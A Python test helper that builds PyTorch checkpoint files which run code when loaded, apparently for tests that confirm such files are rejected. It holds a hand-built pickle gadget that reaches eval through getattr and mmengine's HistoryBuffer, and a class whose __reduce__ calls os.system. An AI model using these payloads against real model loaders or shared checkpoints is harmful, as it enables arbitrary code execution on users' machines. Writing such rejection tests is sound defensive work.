"""Checkpoints that would run code, for the tests that refuse them."""

import io
import os
import struct
import zipfile

import torch


def replace_pickle(path, content):
    """Put other pickle instructions into a file of torch.save's format."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, 'w') as target:
        for name in source.namelist():
            target.writestr(name, content if name.endswith('/data.pkl') else source.read(name))


def text(value):
    encoded = value.encode()
    return b'X' + struct.pack('<I', len(encoded)) + encoded


def attribute(owner, name):
    return b'cbuiltins\ngetattr\n' + owner + text(name) + b'\x86R'


BUFFER = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'


def getattr_gadget(code):
    """Instructions that reach eval through getattr and have a HistoryBuffer call it.

    getattr.__self__ is the module builtins; a HistoryBuffer takes any attribute from the file, so
    that a second BUILD finds eval as its __setstate__.
    """
    evaluate = attribute(attribute(b'cbuiltins\ngetattr\n', '__self__'), 'eval')
    state = b'}' + text('__setstate__') + evaluate + b's'
    return b'\x80\x02' + BUFFER + b')\x81' + state + b'b' + text(code) + b'b.'


class RunsCode:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)
